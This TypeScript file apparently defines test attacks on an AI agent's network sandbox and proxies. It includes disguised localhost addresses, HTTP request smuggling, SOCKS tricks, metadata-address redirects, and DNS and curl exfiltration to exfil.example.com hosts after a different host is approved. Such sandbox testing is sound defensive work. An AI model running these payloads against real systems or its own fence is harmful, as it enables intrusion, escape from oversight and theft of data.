import { type Attack, type AttackClass, knock, python, shell } from "./attack.ts";

/** What a program can say that speaks to the proxies by itself; without proxies it knocks at the port. */
const speaker = `import base64,os,socket,struct,time,urllib.parse as u
def way(name):
  p=u.urlparse(os.environ.get(name,''))
  return p if p.hostname else None
H,S=way('http_proxy'),way('ALL_PROXY')
PORT={port}
AUTH='' if H is None else 'Proxy-Authorization: Basic '+base64.b64encode(((H.username or '')+':'+(H.password or '')).encode()).decode()+'\\r\\n'
def open_to(p):
  s=socket.create_connection((p.hostname,p.port) if p else ('127.0.0.1',PORT),3)
  s.settimeout(1)
  return s
def hear(s):
  try: print(s.recv(300))
  except OSError as e: print(e)
def say(*lines):
  s=open_to(H)
  for line in lines:
    s.sendall(line.encode('utf-8')); hear(s)
def get(url,*more): return 'GET '+url+' HTTP/1.1\\r\\nHost: example.com\\r\\n'+AUTH+''.join(m+'\\r\\n' for m in more)+'\\r\\n'
def connect(to): return 'CONNECT '+to+' HTTP/1.1\\r\\nHost: '+to+'\\r\\n'+AUTH+'\\r\\n'
def socks(*parts):
  s=open_to(S)
  if S is None: return s
  name,word=(S.username or '').encode(),(S.password or '').encode()
  s.sendall(b'\\x05\\x02\\x00\\x02'); m=s.recv(2)
  if m==b'\\x05\\x02': s.sendall(b'\\x01'+bytes([len(name)])+name+bytes([len(word)])+word); s.recv(2)
  for part in parts: s.sendall(part); hear(s)
  return s
P=struct.pack('>H',PORT)
`;

/** The user allows every host that is asked for. */
const says = (id: string, title: string, script: string, more: Partial<Attack> = {}): Attack =>
  knock(`proxy-${id}`, title, python(speaker + script), { needs: ["python3"], hosts: true, ...more });

/** CONNECT and GET to this computer, under another name. */
const named = (id: string, title: string, host: string): Attack =>
  says(
    id,
    title,
    `host=${host}\nsay(connect(host+':'+str(PORT)))\nsay(get('http://'+host+':'+str(PORT)+'/'))`,
  );

const fetches = (id: string, title: string, url: string): Attack => ({
  id: `web-fetch-${id}`,
  title: `web_fetch of ${title}, with a rule that allows the tool`,
  harm: "connect",
  levels: ["ask", "work"],
  rules: [{ verdict: "allow", tool: "web_fetch" }],
  steps: [[{ name: "web_fetch", input: { url } }]],
  approved: true,
});

/** One host is allowed for the conversation; what comes then is another one. */
const afterYes = (id: string, title: string, command: string): Attack => ({
  id: `proxied-after-yes-${id}`,
  title,
  harm: "connect",
  needs: ["curl"],
  proxied: true,
  steps: [[shell("curl -s -m 5 http://ok.example.com/first")], [shell(command)]],
  answers: ["conversation", "deny"],
  approved: false,
});

export const proxyWords: AttackClass = {
  name: "Words to the fence's own proxies, and other names for this computer",
  attacks: [
    named("loopback", "CONNECT 127.0.0.1", "'127.0.0.1'"),
    named("dot", "127.0.0.1 with a dot last", "'127.0.0.1.'"),
    named("upper", "LOCALHOST", "'LOCALHOST'"),
    named("upper-dot", "LocalHost with a dot last", "'LocalHost.'"),
    named("below-localhost", "a name below localhost", "'a.localhost'"),
    named("userinfo", "127.0.0.1 behind a user's name", "'example.com@127.0.0.1'"),
    named("password", "127.0.0.1 behind a name and a password", "'example.com:80@127.0.0.1'"),
    named("backslash", "127.0.0.1 behind a backslash", "'example.com\\\\@127.0.0.1'"),
    named("fragment", "127.0.0.1 before a fragment", "'127.0.0.1#.example.com'"),
    named("percent", "127.0.0.1 in percent signs", "'%31%32%37.0.0.1'"),
    named("nul", "127.0.0.1 before a NUL", "'127.0.0.1\\x00.example.com'"),
    named("ideographic", "127.0.0.1 with other full stops", "'127\\u30020\\u30020\\u30021'"),
    named("wide", "127.0.0.1 in wide digits", "'\\uff11\\uff12\\uff17.0.0.1'"),
    named(
      "circled",
      "localhost in circled letters",
      "'\\u24db\\u24de\\u24d2\\u24d0\\u24db\\u24d7\\u24de\\u24e2\\u24e3'",
    ),
    named("leading-zeros", "127.0.0.1 with zeros before", "'0127.000.000.001'"),
    named("three-parts", "127.0.1", "'127.0.1'"),
    named("unspecified-v6", "[::]", "'[::]'"),
    named("long-v6", "the long form of [::1]", "'[0:0:0:0:0:0:0:1]'"),
    named("zone-v6", "[::1%lo]", "'[::1%25lo]'"),
    named("mapped-hex", "[::ffff:7f00:1]", "'[::ffff:7f00:1]'"),
    named("compatible", "[::127.0.0.1]", "'[::127.0.0.1]'"),
    named("nat64", "[64:ff9b::127.0.0.1]", "'[64:ff9b::7f00:1]'"),
    named("own-name", "this computer's own name", "socket.gethostname()"),
    says(
      "origin-form",
      "a request without a host in its first line",
      "say('GET / HTTP/1.1\\r\\nHost: 127.0.0.1:'+str(PORT)+'\\r\\n'+AUTH+'\\r\\n')",
    ),
    says(
      "two-hosts",
      "two Host headers",
      "say(get('http://127.0.0.1:'+str(PORT)+'/','Host: 127.0.0.1:'+str(PORT)))",
    ),
    says(
      "pipelined",
      "a second request behind the first",
      "say(get('http://example.com/')+get('http://127.0.0.1:'+str(PORT)+'/'))",
    ),
    says(
      "smuggled",
      "a request within another's body",
      "inner=get('http://127.0.0.1:'+str(PORT)+'/')\nsay(get('http://example.com/','Content-Length: 0','Transfer-Encoding: chunked')+inner)",
    ),
    says(
      "behind-connect",
      "a request behind a CONNECT that is not answered yet",
      "say(connect('example.com:443')+get('http://127.0.0.1:'+str(PORT)+'/'))",
    ),
    says(
      "folded",
      "a line end within the address",
      "say(get('http://example.com/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET http://127.0.0.1:'+str(PORT)+'/'))",
    ),
    says(
      "websocket",
      "a WebSocket",
      "say(get('http://127.0.0.1:'+str(PORT)+'/','Connection: Upgrade','Upgrade: websocket','Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==','Sec-WebSocket-Version: 13'))",
    ),
    says(
      "other-schemes",
      "ftp:, file: and unix: addresses",
      "for scheme in ('ftp','file','unix','ws','https'): say(get(scheme+'://127.0.0.1:'+str(PORT)+'/'))",
    ),
    says(
      "stranger",
      "a request without the proxy's password",
      "AUTH=''\nsay(get('http://127.0.0.1:'+str(PORT)+'/'))\nsay(connect('127.0.0.1:'+str(PORT)))",
    ),
    says("socks-v4", "SOCKS 5 to an address", "socks(b'\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01'+P,b'x')"),
    says("socks-name", "SOCKS 5 to a name", "socks(b'\\x05\\x01\\x00\\x03\\x09localhost'+P,b'x')"),
    says("socks-v6", "SOCKS 5 to ::1", "socks(b'\\x05\\x01\\x00\\x04'+b'\\x00'*15+b'\\x01'+P,b'x')"),
    says(
      "socks-mapped",
      "SOCKS 5 to a mapped address",
      "socks(b'\\x05\\x01\\x00\\x04'+b'\\x00'*10+b'\\xff\\xff\\x7f\\x00\\x00\\x01'+P,b'x')",
    ),
    says(
      "socks-nul",
      "SOCKS 5 to a name with a NUL",
      "name=b'127.0.0.1\\x00.example.com'\nsocks(b'\\x05\\x01\\x00\\x03'+bytes([len(name)])+name+P,b'x')",
    ),
    says(
      "socks-udp",
      "SOCKS 5, UDP",
      "s=socks(b'\\x05\\x03\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00')\nd=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nd.sendto(b'\\x00\\x00\\x00\\x01\\x7f\\x00\\x00\\x01'+P+b'x',('127.0.0.1',S.port if S else PORT))",
    ),
    says("socks-bind", "SOCKS 5, BIND", "socks(b'\\x05\\x02\\x00\\x01\\x7f\\x00\\x00\\x01'+P,b'x')"),
    says(
      "socks-4a",
      "SOCKS 4a",
      "s=open_to(S)\ns.sendall(b'\\x04\\x01'+P+b'\\x00\\x00\\x00\\x01u\\x00localhost\\x00')\nhear(s)\ns=open_to(S)\ns.sendall(b'\\x04\\x01'+P+b'\\x7f\\x00\\x00\\x01u\\x00')\nhear(s)",
    ),
    knock(
      "dns-tcp",
      "a question to a name server, over TCP and UDP, that carries words out",
      python(
        "import socket,struct\nq=struct.pack('>6H',1,256,1,0,0,0)+b'\\x06secret\\x07example\\x03com\\x00'+struct.pack('>2H',16,1)\nu=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nu.sendto(q,('127.0.0.1',{port}))\ns=socket.create_connection(('127.0.0.1',{port}),3)\ns.sendall(struct.pack('>H',len(q))+q)",
      ),
      { needs: ["python3"] },
    ),
    knock(
      "dns-by-proxy",
      "words in the names of hosts that nobody allowed, behind a proxy",
      'for word in one two three; do curl -s -m 5 "http://$word.exfil.example.com/{port}"; done',
      { needs: ["curl"], proxied: true },
    ),
    fetches("dot", "localhost with a dot", "http://localhost.:{port}/"),
    fetches("mapped", "a mapped address", "http://[::ffff:127.0.0.1]:{port}/"),
    fetches("number", "2130706433", "http://2130706433:{port}/"),
    fetches("userinfo", "127.0.0.1 behind a user's name", "http://example.com@127.0.0.1:{port}/"),
    fetches("wide", "127.0.0.1 in wide digits", "http://１２７.0.0.1:{port}/"),
    fetches("unspecified", "0.0.0.0", "http://0.0.0.0:{port}/"),
    knock(
      "proxied-redirect",
      "a host that sends on to 169.254.169.254, behind a proxy",
      "curl -s -L -m 5 'http://redirect.example.com/?http:%2F%2F169.254.169.254%2F{port}'",
      { needs: ["curl"], hosts: true, proxied: true },
    ),
    {
      ...fetches(
        "redirect",
        "a host that sends on to 169.254.169.254",
        "http://redirect.example.com/?http:%2F%2F169.254.169.254%2F{port}",
      ),
      proxied: true,
    },
    afterYes(
      "port",
      "another port of a host that was allowed",
      "curl -s -m 5 http://ok.example.com:8080/{port}",
    ),
    afterYes("below", "a host below one that was allowed", "curl -s -m 5 http://below.ok.example.com/{port}"),
    afterYes(
      "behind",
      "a host that begins like one that was allowed",
      "curl -s -m 5 http://ok.example.com.exfil.example.net/{port}",
    ),
    afterYes(
      "next",
      "another host, on the connection of one that was allowed",
      "curl -s -m 5 http://ok.example.com/again --next -s -m 5 http://exfil.example.com/{port}",
    ),
    afterYes(
      "userinfo",
      "another host behind the name of one that was allowed",
      "curl -s -m 5 http://ok.example.com@exfil.example.com/{port}",
    ),
    {
      ...afterYes(
        "pipelined",
        "a request to another host, right behind one to a host that was allowed",
        python(
          `${speaker}s=open_to(H)
s.settimeout(10)
s.sendall((get('http://ok.example.com/a','Connection: keep-alive')+get('http://exfil.example.com/'+str(PORT))).encode())
hear(s)
hear(s)`,
        ),
      ),
      needs: ["curl", "python3"],
    },
    {
      ...afterYes(
        "late",
        "a request to another host, by a command that ends before anybody answers",
        python(
          `${speaker}s=open_to(H)\ns.sendall(get('http://exfil.example.com/'+str(PORT)).encode())\ntime.sleep(0.05)`,
        ),
      ),
      needs: ["curl", "python3"],
    },
  ],
};
